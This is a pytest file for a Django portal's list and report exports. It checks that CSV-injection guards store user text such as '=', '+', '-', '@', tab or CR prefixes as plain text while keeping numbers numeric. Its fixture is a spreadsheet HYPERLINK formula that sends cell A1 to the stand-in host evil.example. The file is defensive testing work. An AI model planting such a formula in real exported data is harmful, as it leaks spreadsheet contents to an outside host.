"""Text a user typed never becomes a formula in a file a colleague opens in Excel: in every workbook it is a string
cell, in every CSV it sits behind a '. Numbers (negative ones too) stay numbers."""

import csv
import io
from decimal import Decimal

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from awards.models import Level
from awards.models import Recognition as RecognitionModel
from portal.core.list_exports import csv_lines, xlsx_bytes
from portal.core.spreadsheets import csv_text, from_csv_text
from tests import factories
from tests.portal.reports.helpers import get, province, workbook

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Xem")'


def formula_cells(book):
    return [c.coordinate for sheet in book.worksheets for row in sheet.iter_rows() for c in row if c.data_type == "f"]


def texts(book):
    return [c.value for sheet in book.worksheets for row in sheet.iter_rows() for c in row if c.data_type == "s"]


def test_staff_list_export_writes_a_formula_name_as_text(client, staff_user, producer_a):
    factories.product(producer_a, EVIL)
    client.force_login(staff_user)
    url = reverse("products:staff.product.list")
    book = load_workbook(io.BytesIO(client.get(url + "?export=xlsx").content))
    assert formula_cells(book) == []
    assert EVIL in texts(book)

    text = b"".join(client.get(url + "?export=csv").streaming_content).decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert "'" + EVIL in cells
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)


@pytest.mark.parametrize("text", [EVIL, "+84 912", "-Mắm", "@Trà", "\tChè", "\rChè"])
def test_csv_guard_and_its_reverse(text):
    assert csv_text(text) == "'" + text
    assert from_csv_text(csv_text(text)) == text
    assert csv_text("Lạp sườn") == "Lạp sườn"
    assert from_csv_text("'Lạp sườn") == "'Lạp sườn"


def test_negative_numbers_stay_numbers():
    rows = [[EVIL, Decimal("-1500000"), -3, "-5"]]
    text = "".join(csv_lines(["Tên", "Tiền", "Số", "Ghi chú"], rows))
    assert next(csv.reader(io.StringIO(text.splitlines()[1]))) == ["'" + EVIL, "-1500000", "-3", "'-5"]
    book = load_workbook(
        io.BytesIO(xlsx_bytes(["Tên", "Tiền", "Số", "Ghi chú"], rows, [None, "money", None, None], title="T"))
    )
    name, money, number, note = next(book.active.iter_rows(min_row=2))
    assert (name.data_type, name.value) == ("s", EVIL)
    assert (money.data_type, money.value) == ("n", -1500000)
    assert (number.data_type, number.value) == ("n", -3)
    assert (note.data_type, note.value) == ("s", "-5")


def test_report_annex_writes_a_formula_name_as_text(client, staff_user, producer_a):
    product = factories.product(producer_a, EVIL)
    RecognitionModel.objects.create(product=product, level=Level.objects.get(code="province"), year=2023)
    client.force_login(staff_user)
    book = workbook(get(client, "recognitions", province("Cao Bằng"), 2022, 2024, "xlsx", annex="on"))
    assert formula_cells(book) == []
    assert EVIL in texts(book)
